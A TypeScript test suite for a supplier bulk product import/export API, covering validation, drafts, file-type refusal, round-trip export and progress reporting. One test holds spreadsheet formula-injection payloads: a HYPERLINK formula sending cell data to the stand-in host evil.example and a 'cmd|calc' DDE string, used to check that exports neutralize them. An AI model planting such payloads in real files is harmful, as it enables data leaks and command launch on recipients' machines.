import { expect } from 'chai';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import sinon from 'sinon';
import type request from 'supertest';
import { clock } from '../../server/src/core/clock.js';
import { systemContext } from '../../server/src/core/context.js';
import { runDueJobs, scheduleJob } from '../../server/src/core/jobs.js';
import { importPacing } from '../../server/src/modules/catalog/bulk-import.js';
import { neutralizeFormula } from '../../server/src/modules/catalog/sheet-io.js';
import { api } from '../support/http.js';
import { platformToken, supplier, uniq, type TestSupplier } from '../factories/index.js';

type Row = Array<string | number | null>;

const ZH = ['商品编号', '标题', '描述', '类目ID', '图片', '规格', 'SKU编码', '供货价', '建议零售价', '库存', '重量克', '仓库ID'];
const EN = ['productRef', 'title', 'description', 'categoryId', 'images', 'specs', 'code', 'supplyPrice', 'suggestedPrice', 'stock', 'weightGrams', 'warehouseId'];

async function xlsxOf(rows: Row[]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('商品');
  rows.forEach((r, i) => ws.getRow(i + 1).values = r);
  // a second sheet of notes must be ignored
  wb.addWorksheet('说明').addRow(['只读取第一个工作表']);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

async function csvOf(rows: Row[]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('商品');
  rows.forEach((r, i) => ws.getRow(i + 1).values = r);
  // with a BOM, as Excel's "CSV UTF-8" writes it
  return Buffer.concat([Buffer.from('\uFEFF'), Buffer.from(await wb.csv.writeBuffer())]);
}

async function rowsOfXlsx(bytes: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  wb.worksheets[0]!.eachRow((row) => rows.push(Array.from((row.values as unknown[]).slice(1), (v) => v ?? null)));
  return rows;
}

async function rowsOfCsv(bytes: Buffer): Promise<string[][]> {
  expect(bytes.subarray(0, 3).toString('hex')).to.equal('efbbbf');
  const wb = new ExcelJS.Workbook();
  const ws = await wb.csv.read(Readable.from(bytes.subarray(3)), { map: (v: unknown) => v });
  const rows: string[][] = [];
  ws.eachRow((row) => rows.push(Array.from((row.values as unknown[]).slice(1), (v) => String(v ?? ''))));
  return rows;
}

/** superagent buffers only text and JSON by itself. */
const binary = (res: request.Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

async function supplierWithWarehouse(opts: { approved?: boolean } = {}): Promise<TestSupplier & { warehouseId: number }> {
  const s = await supplier(opts);
  const wh = await api({ token: s.token }).post('/supplier/warehouses').send({ name: '义乌仓', province: '浙江省', city: '金华市', address: '义乌 1 号' });
  expect(wh.status, JSON.stringify(wh.body)).to.equal(201);
  return { ...s, warehouseId: wh.body.id };
}

async function upload(token: string, bytes: Buffer, filename: string, fields: Record<string, string> = {}) {
  let req = api({ token }).post('/supplier/products/import');
  for (const [k, v] of Object.entries(fields)) req = req.field(k, v);
  return req.attach('file', bytes, filename);
}

/** Uploads, runs the import job to the end, and returns the finished import. */
async function importAll(token: string, bytes: Buffer, filename: string, fields: Record<string, string> = {}) {
  const started = await upload(token, bytes, filename, fields);
  expect(started.status, JSON.stringify(started.body)).to.equal(202);
  expect(started.body.status).to.equal('pending');
  await runDueJobs();
  const done = await api({ token }).get(`/supplier/imports/${started.body.id}`);
  expect(done.status).to.equal(200);
  return { started: started.body, done: done.body };
}

interface ProductBody {
  id: number;
  title: string;
  status: string;
  images: string[];
  description: string | null;
  skus: Array<{ code: string | null; specs: Record<string, string>; supplyPrice: number; suggestedPrice: number; stock: number; weightGrams: number }>;
}

async function productsOf(token: string): Promise<ProductBody[]> {
  const res = await api({ token }).get('/supplier/products?pageSize=100');
  expect(res.status).to.equal(200);
  return res.body.items;
}

/** Good rows and every kind of bad row, with a blank row that keeps its number. */
function mixedSheet(headers: string[], tag: string, warehouseId: number, price = (yuan: string): string | number => yuan): Row[] {
  return [
    headers,
    [`G1-${tag}`, `衬衫 ${tag}`, '<p>纯棉</p>', null, 'https://cdn.example.com/a.png|https://cdn.example.com/b.png', '颜色:红;尺码:M', 'SH-R-M', price('19.9'), price('39.90'), 10, 200, warehouseId],
    [`G1-${tag}`, null, null, null, null, '颜色：蓝；尺码：M', 'SH-B-M', price('12'), price('20.5'), 5, 200, warehouseId],
    [`B1-${tag}`, `坏价格 ${tag}`, null, null, null, null, null, '12.345', '20', 1, null, null],
    [`B2-${tag}`, `未知仓库 ${tag}`, null, null, null, null, null, '10', '20', 1, null, 99_999_999],
    [],
    [`B3-${tag}`, `重复规格 ${tag}`, null, null, null, '颜色:红', null, '10', '20', 1, null, null],
    [`B3-${tag}`, null, null, null, null, '颜色:红', null, '10', '20', 1, null, null],
    [`B4-${tag}`, null, null, null, null, null, null, '10', '20', 1, null, null],
    [`G2-${tag}`, `袜子 ${tag}`, null, null, null, null, '00123', price('0.01'), price('0.5'), 0, null, null],
  ];
}

function expectMixedOutcome(done: { status: string; total: number; processed: number; succeeded: number; failed: number; errors: Array<{ row: number; field: string; message: string; code?: string }> }, fields: { price: string; warehouse: string; specs: string; title: string }) {
  expect(done).to.include({ status: 'done', total: 8, processed: 8, succeeded: 3, failed: 5 });
  expect(done.processed).to.equal(done.succeeded + done.failed);
  const where = done.errors.map((e) => [e.row, e.field]);
  expect(where).to.deep.include.members([[4, fields.price], [5, fields.warehouse], [8, fields.specs], [9, fields.title]]);
  expect(done.errors.find((e) => e.row === 4)!.message).to.match(/2 decimals/);
  expect(done.errors.find((e) => e.row === 5)!.message).to.match(/not one of your warehouses/);
  expect(done.errors.find((e) => e.row === 8)!.message).to.match(/same specs/);
  // codes the console words in Chinese (the English message is for developers)
  expect(done.errors.find((e) => e.row === 4)!.code).to.equal('price_decimals');
  expect(done.errors.find((e) => e.row === 5)!.code).to.equal('invalid_value');
  expect(done.errors.find((e) => e.row === 9)!.code).to.equal('required');
}

function expectGoodProducts(products: ProductBody[], tag: string, status: string) {
  const shirt = products.find((p) => p.title === `衬衫 ${tag}`)!;
  expect(shirt, 'the two-SKU product').to.exist;
  expect(shirt.status).to.equal(status);
  expect(shirt.images).to.deep.equal(['https://cdn.example.com/a.png', 'https://cdn.example.com/b.png']);
  expect(shirt.skus.map((s) => [s.code, s.specs, s.supplyPrice, s.suggestedPrice, s.stock, s.weightGrams])).to.deep.equal([
    ['SH-R-M', { 颜色: '红', 尺码: 'M' }, 1990, 3990, 10, 200],
    ['SH-B-M', { 颜色: '蓝', 尺码: 'M' }, 1200, 2050, 5, 200],
  ]);
  const socks = products.find((p) => p.title === `袜子 ${tag}`)!;
  expect(socks.skus.map((s) => [s.code, s.specs, s.supplyPrice, s.suggestedPrice])).to.deep.equal([['00123', {}, 1, 50]]);
  expect(products.filter((p) => /坏价格|未知仓库|重复规格/.test(p.title)), 'no bad product was created').to.deep.equal([]);
}

describe('supplier bulk product import and export', () => {
  it('imports a CSV with Chinese headers: good products exist with exact fen prices, bad rows are named by row and column', async () => {
    const s = await supplierWithWarehouse();
    const tag = uniq('c');
    const { started, done } = await importAll(s.token, await csvOf(mixedSheet(ZH, tag, s.warehouseId)), 'products.csv');
    expect(started.total).to.equal(8);
    expectMixedOutcome(done, { price: '供货价', warehouse: '仓库ID', specs: '规格', title: '标题' });
    expectGoodProducts(await productsOf(s.token), tag, 'pending_review');
  });

  it('imports an XLSX with English headers and number cells for prices the same way', async () => {
    const s = await supplierWithWarehouse();
    const tag = uniq('x');
    const { done } = await importAll(s.token, await xlsxOf(mixedSheet(EN, tag, s.warehouseId, (yuan) => Number(yuan))), 'products.xlsx');
    expectMixedOutcome(done, { price: 'supplyPrice', warehouse: 'warehouseId', specs: 'specs', title: 'title' });
    expectGoodProducts(await productsOf(s.token), tag, 'pending_review');
  });

  it('keeps the products of a supplier not yet approved, and of a draft=true import, as drafts', async () => {
    const pending = await supplierWithWarehouse({ approved: false });
    const sheet = await csvOf([ZH, ['D1', '草稿商品', null, null, null, null, null, '5', '9', 1, null, null]]);
    expect((await importAll(pending.token, sheet, 'a.csv')).done).to.include({ succeeded: 1, failed: 0 });
    expect((await productsOf(pending.token)).map((p) => p.status)).to.deep.equal(['draft']);
    const approved = await supplierWithWarehouse();
    expect((await importAll(approved.token, sheet, 'a.csv', { draft: 'true' })).done).to.include({ succeeded: 1 });
    expect((await productsOf(approved.token)).map((p) => p.status)).to.deep.equal(['draft']);
    const badField = await upload(approved.token, sheet, 'a.csv', { draft: 'yes' });
    expect(badField.status).to.equal(400);
    expect(badField.body.error.details[0].field).to.equal('draft');
  });

  it('refuses a file that is neither XLSX nor UTF-8 CSV (415), and a sheet without the needed columns (400)', async () => {
    const s = await supplierWithWarehouse();
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex');
    const image = await upload(s.token, png, 'products.csv');
    expect(image.status).to.equal(415);
    expect(image.body.error.code).to.equal('unsupported_media_type');
    const gbk = Buffer.from([0xc9, 0xcc, 0xc6, 0xb7, 0xb1, 0xe0, 0xba, 0xc5, 0x0d, 0x0a]); // "商品编号" in GBK
    expect((await upload(s.token, gbk, 'gbk.csv')).status).to.equal(415);
    const notWorkbook = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(64)]);
    expect((await upload(s.token, notWorkbook, 'x.xlsx')).status).to.equal(415);
    const noPrice = await upload(s.token, await csvOf([['商品编号', '标题'], ['P', '标题']]), 'p.csv');
    expect(noPrice.status).to.equal(400);
    expect(noPrice.body.error.details).to.deep.include({ field: 'file', message: 'the header row needs a 供货价 (supplyPrice) column' });
    const json = await api({ token: s.token }).post('/supplier/products/import').send({ file: 'x' });
    expect(json.status).to.equal(415);
    const tooBig = await upload(s.token, Buffer.alloc(10 * 1024 * 1024 + 1, 0x61), 'big.csv');
    expect(tooBig.status).to.equal(413);
    expect(tooBig.body.error.code).to.equal('payload_too_large');
  });

  it("answers 404 to another supplier asking for an import, and lists only one's own imports", async () => {
    const owner = await supplierWithWarehouse();
    const other = await supplierWithWarehouse();
    const started = await upload(owner.token, await csvOf([ZH, ['P1', '一件商品', null, null, null, null, null, '5', '9', 1, null, null]]), 'a.csv');
    expect(started.status).to.equal(202);
    const peek = await api({ token: other.token }).get(`/supplier/imports/${started.body.id}`);
    expect(peek.status).to.equal(404);
    expect((await api({ token: other.token }).get('/supplier/imports')).body.items).to.deep.equal([]);
    const mine = await api({ token: owner.token }).get('/supplier/imports');
    expect(mine.body.items.map((i: { id: number }) => i.id)).to.deep.equal([started.body.id]);
    expect((await api({ token: owner.token }).get('/supplier/imports/abc')).status).to.equal(400);
    await runDueJobs();
  });

  it('exports XLSX and CSV in the import columns, one row per SKU, and an exported file imports again', async () => {
    const s = await supplierWithWarehouse();
    const tag = uniq('e');
    await importAll(s.token, await csvOf(mixedSheet(ZH, tag, s.warehouseId)), 'seed.csv');
    const [shirt] = (await productsOf(s.token)).filter((p) => p.title === `衬衫 ${tag}`);

    const xlsx = await api({ token: s.token }).get('/supplier/products/export?format=xlsx').buffer(true).parse(binary);
    expect(xlsx.status).to.equal(200);
    expect(xlsx.headers['content-disposition']).to.match(/^attachment; filename="products\.xlsx"/);
    const xRows = await rowsOfXlsx(xlsx.body as Buffer);
    expect(xRows[0]).to.deep.equal(ZH);
    expect(xRows.slice(1)).to.have.length(3);
    expect(xRows.slice(1).find((r) => r[6] === 'SH-R-M')).to.deep.equal([shirt!.id, `衬衫 ${tag}`, '<p>纯棉</p>', null, 'https://cdn.example.com/a.png|https://cdn.example.com/b.png', '颜色:红;尺码:M', 'SH-R-M', 19.9, 39.9, 10, 200, s.warehouseId]);

    const csv = await api({ token: s.token }).get('/supplier/products/export?format=csv&status=pending_review').buffer(true).parse(binary);
    expect(csv.headers['content-type']).to.match(/^text\/csv/);
    const cRows = await rowsOfCsv(csv.body as Buffer);
    expect(cRows[0]).to.deep.equal(ZH);
    expect(cRows.slice(1).map((r) => [r[5], r[6], r[7], r[8]])).to.deep.equal([
      ['颜色:红;尺码:M', 'SH-R-M', '19.90', '39.90'],
      ['颜色:蓝;尺码:M', 'SH-B-M', '12.00', '20.50'],
      ['', '00123', '0.01', '0.50'],
    ]);
    const none = await api({ token: s.token }).get('/supplier/products/export?format=csv&status=approved').buffer(true).parse(binary);
    expect(await rowsOfCsv(none.body as Buffer)).to.deep.equal([ZH]);

    for (const [bytes, name] of [[xlsx.body, 'again.xlsx'], [csv.body, 'again.csv']] as const) {
      const { done } = await importAll(s.token, bytes as Buffer, name, { draft: 'true' });
      expect(done).to.include({ status: 'done', total: 3, succeeded: 3, failed: 0 });
    }
    const shirts = (await productsOf(s.token)).filter((p) => p.title === `衬衫 ${tag}`);
    expect(shirts).to.have.length(3);
    for (const p of shirts) expect(p.skus.map((k) => [k.code, k.supplyPrice, k.suggestedPrice, k.stock])).to.deep.equal([['SH-R-M', 1990, 3990, 10], ['SH-B-M', 1200, 2050, 5]]);

    const badFormat = await api({ token: s.token }).get('/supplier/products/export?format=pdf');
    expect(badFormat.status).to.equal(400);
    expect(badFormat.body.error.details[0].field).to.equal('format');
    expect((await api({ token: s.token }).get('/supplier/products/export?status=sold')).body.error.details[0].field).to.equal('status');
  });

  it('exports text that a spreadsheet would run as a formula as text, quoted, and imports it back as it was', async () => {
    const s = await supplierWithWarehouse();
    const title = `=HYPERLINK("https://evil.example/?"&A1,"${uniq('点我')}")`;
    const created = await api({ token: s.token }).post('/supplier/products').send({
      title,
      draft: true,
      skus: [
        { specs: { 颜色: '+红' }, code: '-2+3+cmd|calc', supplyPrice: 100, suggestedPrice: 200 },
        { specs: { 颜色: '蓝' }, code: '@SUM(A1:A9)', supplyPrice: 100, suggestedPrice: 200 },
      ],
    });
    expect(created.status, JSON.stringify(created.body)).to.equal(201);

    const csv = await api({ token: s.token }).get('/supplier/products/export?format=csv').buffer(true).parse(binary);
    const cRows = (await rowsOfCsv(csv.body as Buffer)).filter((r) => r[0] === String(created.body.id));
    expect(cRows.map((r) => [r[1], r[5], r[6]])).to.deep.equal([
      [`'${title}`, '颜色:+红', "'-2+3+cmd|calc"],
      [`'${title}`, '颜色:蓝', "'@SUM(A1:A9)"],
    ]);
    const xlsx = await api({ token: s.token }).get('/supplier/products/export?format=xlsx').buffer(true).parse(binary);
    const xRows = (await rowsOfXlsx(xlsx.body as Buffer)).filter((r) => r[0] === created.body.id);
    expect(xRows.map((r) => [r[1], r[6], r[7]])).to.deep.equal([
      [`'${title}`, "'-2+3+cmd|calc", 1],
      [`'${title}`, "'@SUM(A1:A9)", 1],
    ]);

    for (const [bytes, name] of [[csv.body, 'again.csv'], [xlsx.body, 'again.xlsx']] as const) {
      const { done } = await importAll(s.token, bytes as Buffer, name, { draft: 'true' });
      expect(done, name).to.include({ status: 'done', failed: 0 });
    }
    const copies = (await productsOf(s.token)).filter((p) => p.title === title);
    expect(copies, 'both imports restored the title').to.have.length(3);
    for (const p of copies) expect(p.skus.map((k) => k.code).sort()).to.deep.equal(['-2+3+cmd|calc', '@SUM(A1:A9)']);
    expect([neutralizeFormula('\t=1+1'), neutralizeFormula('\r=1'), neutralizeFormula(-5), neutralizeFormula('好=1')]).to.deep.equal(["'\t=1+1", "'\r=1", -5, '好=1']);
  });

  it('offers a template whose example row imports as it is', async () => {
    const s = await supplierWithWarehouse();
    for (const format of ['xlsx', 'csv'] as const) {
      const res = await api({ token: s.token }).get(`/supplier/products/import-template?format=${format}`).buffer(true).parse(binary);
      expect(res.status).to.equal(200);
      const rows = format === 'xlsx' ? await rowsOfXlsx(res.body as Buffer) : await rowsOfCsv(res.body as Buffer);
      expect(rows).to.have.length(2);
      expect(rows[0]).to.deep.equal(ZH);
      const { done } = await importAll(s.token, res.body as Buffer, `template.${format}`, { draft: 'true' });
      expect(done).to.include({ succeeded: 1, failed: 0 });
    }
    const [a, b] = await productsOf(s.token);
    expect([a!.skus[0]!.supplyPrice, b!.skus[0]!.suggestedPrice]).to.deep.equal([1990, 3990]);
  });

  it('reports progress on a long file while it runs in slices, and ends with processed === total', async () => {
    const s = await supplierWithWarehouse();
    sinon.replace(importPacing, 'rowsPerRun', 100);
    sinon.replace(importPacing, 'saveEveryRows', 10);
    const rows: Row[] = [EN];
    for (let p = 0; p < 100; p++) {
      for (const size of ['S', 'M', 'L']) rows.push([`L${p}`, `长文件商品 ${p}`, null, null, null, `尺码:${size}`, null, p === 50 && size === 'S' ? '1.001' : '10', '20', 1, null, null]);
    }
    await runDueJobs();
    // drafts: a hundred products in the review queue would crowd other tests' queue checks
    const started = await upload(s.token, await csvOf(rows), 'long.csv', { draft: 'true' });
    expect(started.body.total).to.equal(300);
    // one job at a time until the import has run once (another file's job may come due first)
    const statusNow = async () => (await api({ token: s.token }).get(`/supplier/imports/${started.body.id}`)).body;
    let midway = await statusNow();
    for (let i = 0; i < 20 && midway.status === 'pending'; i++) {
      await runDueJobs(1);
      midway = await statusNow();
    }
    expect(midway.status).to.equal('running');
    expect(midway.processed).to.be.within(100, 299);
    expect(midway.processed).to.equal(midway.succeeded + midway.failed);
    // a second run of the same import (a retry racing its continuation) resumes at the cursor
    await scheduleJob(systemContext('test'), 'catalog.import-products', clock.now(), { importId: started.body.id, submit: false });
    await runDueJobs();
    const done = (await api({ token: s.token }).get(`/supplier/imports/${started.body.id}`)).body;
    expect(done).to.include({ status: 'done', total: 300, processed: 300, succeeded: 297, failed: 3 });
    expect(done.errors).to.deep.equal([{ row: 152, field: 'supplyPrice', message: 'at most 2 decimals (yuan, e.g. 19.90)', code: 'price_decimals' }]);
    expect((await api({ token: s.token }).get('/supplier/products?pageSize=1')).body.total, 'no product created twice').to.equal(99);
  });
});

describe('bulk import of a suspended supplier', () => {
  it('stops an import whose supplier was suspended after the upload, and refuses new uploads', async () => {
    const s = await supplierWithWarehouse();
    const tag = uniq('s');
    const started = await upload(s.token, await xlsxOf(mixedSheet(ZH, tag, s.warehouseId)), 'goods.xlsx');
    expect(started.status, JSON.stringify(started.body)).to.equal(202);
    expect((await api({ token: await platformToken() }).post(`/platform/suppliers/${s.id}/suspend`)).status).to.equal(200);
    await runDueJobs();
    const stopped = (await api({ token: s.token }).get(`/supplier/imports/${started.body.id}`)).body;
    expect(stopped).to.include({ status: 'failed', succeeded: 0 });
    expect(stopped.errors[0]).to.deep.include({ row: 0, field: 'file' });
    expect(await productsOf(s.token)).to.deep.equal([]);
    const again = await upload(s.token, await xlsxOf(mixedSheet(ZH, tag, s.warehouseId)), 'goods.xlsx');
    expect(again.status).to.equal(403);
    expect(again.body.error.code).to.equal('supplier_suspended');
  });
});
